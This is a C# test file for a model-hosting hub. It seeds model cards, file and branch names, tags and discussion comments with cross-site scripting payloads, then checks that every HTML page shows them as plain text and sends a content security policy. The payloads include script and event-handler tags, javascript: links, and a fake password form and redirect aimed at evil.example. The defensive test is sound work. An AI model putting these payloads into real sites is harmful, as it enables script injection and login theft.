using System.Net;
using System.Text.RegularExpressions;
using Linnet.Hub.Access;
using Linnet.Hub.Tests.Safety.BrokenAccess;

namespace Linnet.Hub.Tests.Safety;

/// <summary>A03, injection into pages: what strangers write is shown as text, in whatever field they write it and on whatever page it is shown.</summary>
public sealed partial class ScriptInjectionTests
{
    private const string Payload = "<xss onmouseover=evil()>";

    private const string Card =
        """
        ---
        license: "<xss onmouseover=evil()>"
        tags: ["<xss onmouseover=evil()>"]
        pipeline_tag: "<xss onmouseover=evil()>"
        language: ["<xss onmouseover=evil()>"]
        datasets: ["javascript:evil()"]
        base_model: "\"><xss onmouseover=evil()>"
        ---
        # <xss onmouseover=evil()>

        <script>evil()</script><xss onmouseover=evil()><img src=x onerror=evil()><svg/onload=evil()><iframe src="javascript:evil()"></iframe>
        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name=password></form>
        <style>body{display:none}</style><object data="x"></object><a href="javascript:evil()">a</a><a href="data:text/html,<script>evil()</script>">b</a>

        [one](javascript:evil()) [two](JaVaScRiPt:evil()) [three](java&#10;script:evil()) [four](data:text/html;base64,PHNjcmlwdD4=) [five](vbscript:evil()) <javascript:evil()>
        ![picture](javascript:evil()) ![x](x "onerror=evil()") [six](x" onmouseover="evil())

        ```<xss onmouseover=evil()>
        <xss onmouseover=evil()>
        ```

        | <xss onmouseover=evil()> | b |
        | --- | --- |
        | `<xss onmouseover=evil()>` | <xss onmouseover=evil()> |
        """;

    [Fact]
    public async Task No_page_shows_what_was_written_as_anything_but_text()
    {
        await using var hub = await StartAsync();
        var alice = await hub.Services.Tokens.AuthenticateAsync(hub.Alice, default);
        var cookie = $"Cookie: linnet-session={await hub.Services.Sessions.BeginAsync(alice.RequireUser(), TokenRole.Write, null, default)}";
        var pages = 0;
        foreach (var rule in EndpointRules.All.Where(rule => rule.Method == "GET"))
        {
            foreach (var address in new[] { rule.AddressOf("alice", "m"), rule.AddressOf("alice", "m").Replace("/999", "/1", StringComparison.Ordinal), $"{rule.AddressOf("alice", "m").Split('?')[0]}?q={Uri.EscapeDataString(Payload)}&search={Uri.EscapeDataString(Payload)}&next=javascript:evil()" }.Distinct())
            {
                using var answer = await hub.SendAsync(null, HttpMethod.Get, address, null, cookie, "Accept: text/html");
                if (answer.Content.Headers.ContentType?.MediaType != "text/html") continue;
                var html = await answer.Content.ReadAsStringAsync();
                Assert.True((int)answer.StatusCode < 500, $"{address}: {(int)answer.StatusCode}");
                Check(html, address);
                Assert.Contains("script-src 'self'", answer.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
                pages++;
            }
        }

        Assert.True(pages > 0);
    }

    private static void Check(string html, string address)
    {
        Assert.False(html.Contains("<xss", StringComparison.OrdinalIgnoreCase), $"{address} shows a tag that somebody wrote");
        foreach (Match tag in Tag().Matches(html))
        {
            var name = tag.Groups["name"].Value.ToLowerInvariant();
            Assert.False(name is "iframe" or "object" or "embed" or "base" or "style", $"{address} has {tag.Value}");
            Assert.False(name == "meta" && tag.Value.Contains("http-equiv", StringComparison.OrdinalIgnoreCase), $"{address} has {tag.Value}");
            Assert.False(name == "script" && !tag.Value.Contains("src=\"/assets/", StringComparison.Ordinal), $"{address} has {tag.Value}");
            foreach (Match attribute in Attribute().Matches(tag.Groups["rest"].Value))
            {
                var value = WebUtility.HtmlDecode(attribute.Groups["value"].Value.Trim('"', '\''));
                var plain = string.Concat(value.Where(letter => letter > ' ')).ToLowerInvariant();
                Assert.False(attribute.Groups["name"].Value.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{address} has {tag.Value}");
                var isAddress = attribute.Groups["name"].Value.ToLowerInvariant() is "href" or "src" or "action" or "formaction" or "data" or "xlink:href";
                Assert.False(isAddress && (plain.StartsWith("javascript:", StringComparison.Ordinal) || plain.StartsWith("vbscript:", StringComparison.Ordinal) || plain.StartsWith("data:", StringComparison.Ordinal)), $"{address} has {tag.Value}");
                Assert.False(attribute.Groups["name"].Value is "action" or "formaction" && plain.Contains("evil.example", StringComparison.Ordinal), $"{address} has {tag.Value}");
            }
        }
    }

    private static async Task<HubHost> StartAsync()
    {
        var hub = await HubHost.StartAsync();
        await hub.CreateAsync("m");
        await hub.CommitAsync("alice/m", "main", ("README.md", Card), ($"{Payload}.txt", Payload), ("config.json", $"{{\"model_type\":\"{Payload}\"}}"), ("a.txt", Payload));
        using (var commit = await hub.CommitLinesAsync("alice/m", "main", new { key = "file", value = new { path = "b.txt", content = Payload, encoding = "utf-8" } })) commit.EnsureSuccessStatusCode();
        await hub.SendAsync(HttpMethod.Post, $"/api/models/alice/m/branch/{Uri.EscapeDataString("<xss/onload=evil()>")}", new { });
        await hub.SendAsync(HttpMethod.Post, "/api/models/alice/m/tag/main", new { tag = "<xss/onload=evil()>", message = Payload });
        (await hub.SendAsync(hub.Bob, HttpMethod.Post, "/api/models/alice/m/discussions", new { title = Payload, description = Card })).EnsureSuccessStatusCode();
        (await hub.SendAsync(hub.Bob, HttpMethod.Post, "/api/models/alice/m/discussions/1/comment", new { comment = Card })).EnsureSuccessStatusCode();
        return hub;
    }

    [GeneratedRegex("<(?<name>[a-zA-Z][a-zA-Z0-9:-]*)(?<rest>(\"[^\"]*\"|'[^']*'|[^'\">])*)>")]
    private static partial Regex Tag();

    [GeneratedRegex("(?<name>[a-zA-Z_:@][a-zA-Z0-9_:.-]*)(\\s*=\\s*(?<value>\"[^\"]*\"|'[^']*'|[^\\s\"'>]+))?")]
    private static partial Regex Attribute();
}
